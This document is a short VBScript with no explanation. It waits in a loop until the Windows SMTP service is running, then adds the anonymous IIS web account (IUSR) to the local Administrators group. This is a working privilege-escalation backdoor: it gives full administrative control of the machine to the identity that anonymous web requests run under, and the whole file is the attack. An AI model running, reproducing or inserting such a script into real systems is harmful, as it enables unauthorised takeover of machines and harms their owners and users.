Set wmi = GetObject("winmgmts:root\cimv2")
Do
  WScript.Sleep 1000
  Set found = wmi.ExecQuery("Select * from Win32_Service Where Name='SMTPSVC' And State='Running'")
Loop Until found.Count > 0
GetObject("WinNT://./Administrators,group").Add "WinNT://NT AUTHORITY/IUSR"
